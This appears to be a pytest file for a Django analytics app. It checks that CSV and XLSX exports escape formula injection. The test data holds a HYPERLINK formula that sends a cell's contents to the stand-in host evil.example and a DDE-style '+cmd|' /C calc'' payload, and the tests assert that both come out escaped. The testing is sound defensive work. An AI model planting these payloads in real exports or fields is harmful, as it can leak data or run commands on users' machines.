"""Formula cells in the analytics exports (issue 12): every table's text is escaped in CSV and XLSX,
including a member who set their own name to a formula on /m/ (the RFM drill-down lists names)."""

import csv
import io
from datetime import date

import openpyxl
import pytest
from django.contrib.auth.hashers import make_password
from django.test import Client

from analytics import exports, selectors
from analytics.models import RfmClass
from analytics.services import rfm, rollups
from membership.models import Member

from .conftest import sh

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
PERIOD = {"start": "2026-03-01", "end": "2026-03-31"}


def rows_of(response, fmt):
    assert response.status_code == 200
    if fmt == "csv":
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    return [[c.value for c in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_rfm_drill_down_escapes_a_name_set_on_m(shop, signed_in, fmt):
    member = shop.join(sh(2026, 3, 1), "S001", name="甲")
    shop.sell(500, sh(2026, 3, 5), "S001", member=member)
    Member.objects.filter(pk=member.pk).update(password=make_password("a-long-Passw0rd!"))
    client = Client()
    assert client.post("/m/login/", {"phone": member.phone, "password": "a-long-Passw0rd!"}).status_code == 302
    assert client.post("/m/profile/", {"name": FORMULA}).status_code == 302
    rollups.rebuild(date(2026, 2, 20), date(2026, 3, 31))
    rfm.build_snapshot(date(2026, 3, 31))
    admin = signed_in("admin")
    found = []
    for rfm_class in RfmClass.values:
        rows = rows_of(admin.get(f"/analytics/rfm/{rfm_class}/", {**PERIOD, "format": fmt}), fmt)
        found += [row for row in rows[1:] if row[0] == member.member_no]
    assert len(found) == 1 and found[0][1] == "'" + FORMULA


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_table_escapes_formula_text(fmt):
    table = selectors.Table(
        "t",
        "T",
        [
            selectors.Column("name", "=Name", selectors.TEXT),
            selectors.Column("n", "N"),
            selectors.Column("amount", "Amount", selectors.MONEY),
        ],
        [{"name": "+cmd|' /C calc'!A0", "n": -3, "amount": "-12.5"}, {"name": "@SUM(A1)", "n": "=1+1", "amount": "0"}],
    )
    rows = rows_of(exports.response(table, fmt, "t"), fmt)
    assert rows[0][0] == "'=Name"
    assert rows[1][0] == "'+cmd|' /C calc'!A0" and rows[2][0] == "'@SUM(A1)" and rows[2][1] == "'=1+1"
    assert str(rows[1][1]) == "-3" and float(rows[1][2]) == -12.5  # numbers stay numbers
